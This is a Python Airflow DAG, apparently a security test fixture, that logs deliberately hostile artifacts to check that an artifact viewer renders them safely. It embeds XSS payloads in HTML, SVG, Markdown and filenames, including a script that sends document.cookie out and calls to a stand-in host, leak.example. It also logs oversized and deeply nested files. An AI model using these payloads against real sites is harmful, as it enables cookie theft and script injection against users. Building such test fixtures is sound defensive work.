"""A DAG that logs what somebody might log who wants to harm those who look at it."""

from __future__ import annotations

import json
import tempfile
import wave
from pathlib import Path

from airflow.sdk import DAG, task

from airflow_artifacts import log_artifact, log_artifacts, log_text

SCRIPT = (
    "document.title = 'owned'; window.owned = 1; try { top.owned = 1 } catch (error) {}"
    "alert('owned'); fetch('/airflow-artifacts-leak?' + document.cookie); fetch('http://leak.example/script')"
)
HTML = f"""<!doctype html>
<html><head><title>Hostile page</title><script>{SCRIPT}</script>
<meta http-equiv="refresh" content="1; url=http://leak.example/refresh">
<link rel="stylesheet" href="http://leak.example/style.css"></head>
<body onload="{SCRIPT}"><h1>Hostile page</h1><img src="http://leak.example/image.png" onerror="{SCRIPT}">
<iframe src="http://leak.example/frame"></iframe><form action="http://leak.example/form"><button>go</button></form>
<a href="javascript:{SCRIPT}">click</a></body></html>
"""
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200"
height="100" onload="{SCRIPT}"><script>{SCRIPT.replace("&", "&amp;")}</script>
<rect width="200" height="100" fill="#c33"/>
<image xlink:href="http://leak.example/in-svg.png" width="10" height="10"/></svg>
"""
MARKDOWN = f"""# Hostile Markdown

<script>{SCRIPT}</script>
<img src="http://leak.example/markdown-html.png" onerror="{SCRIPT}">
<iframe src="http://leak.example/markdown-frame"></iframe>

![remote](http://leak.example/markdown.png) [link](javascript:{SCRIPT.replace(" ", "%20")})
[data](data:text/html,<script>{SCRIPT}</script>) <a href="javascript:alert(1)" onclick="alert(1)">raw</a>

[an honest link](https://example.org/) and **bold**
"""
NAMES = {
    """it's "quoted" <b onclick=alert(1)>bold<img src=x onerror=alert(1)>.txt""": "quotes and angle brackets",
    "with space & ampersand?x=1#hash%41.txt": "reserved characters",
    "unicode-\u00fc\u4e2d\U0001f600.txt": "letters of others",
    "deeply/nested/folder/file.txt": "in a folder",
}


def write(folder: Path, name: str, content: str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content, encoding="utf-8")
    return path


def write_media(folder: Path) -> list[Path]:
    import numpy as np
    from matplotlib.figure import Figure

    np.save(folder / "array.npy", np.arange(12, dtype="float32").reshape(3, 4))
    figure = Figure(figsize=(2, 2))
    figure.add_subplot().plot([1, 2, 3])
    figure.savefig(folder / "small.pdf")
    with wave.open(str(folder / "tone.wav"), "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(bytes(16000))
    return [folder / name for name in ("array.npy", "small.pdf", "tone.wav")]


@task
def pages() -> None:
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        for file, content in {"page.html": HTML, "drawing.svg": SVG, "text.md": MARKDOWN}.items():
            log_artifact(write(folder, file, content), "hostile")
        log_artifact(write(folder, "typed.png", HTML), "hostile")  # not what its name says
        for file, content in NAMES.items():
            write(folder / "names", file, content)
        log_artifacts(folder / "names", "hostile/names")


@task
def large() -> None:
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        header = ",".join(f"column {number}" for number in range(10_000))
        row = ",".join(str(number) for number in range(10_000))
        log_artifact(write(folder, "wide.csv", f"{header}\n{row}\n{row}\n"), "hostile")
        log_artifact(write(folder, "deep.json", "[" * 10_000 + "1" + "]" * 10_000), "hostile")
        log_artifact(write(folder, "objects.json", '{"a":' * 10_000 + "1" + "}" * 10_000), "hostile")
        huge = write(folder, "huge.txt", "".join(f"line {number}\n" for number in range(200_000)))
        with huge.open("r+b") as file:
            file.truncate(2**30)  # a hole, that takes no disk here
        log_artifact(huge, "hostile")
        long = {"long": "x" * 1_000_000, "markup": "<img src=x onerror=alert(1)>", "list": list(range(1000))}
        log_text(json.dumps(list(long)), "hostile/metadata.json", metadata=long)
        for path in write_media(folder):
            log_artifact(path, "hostile")


with DAG("hostile", schedule=None):
    pages()
    large()
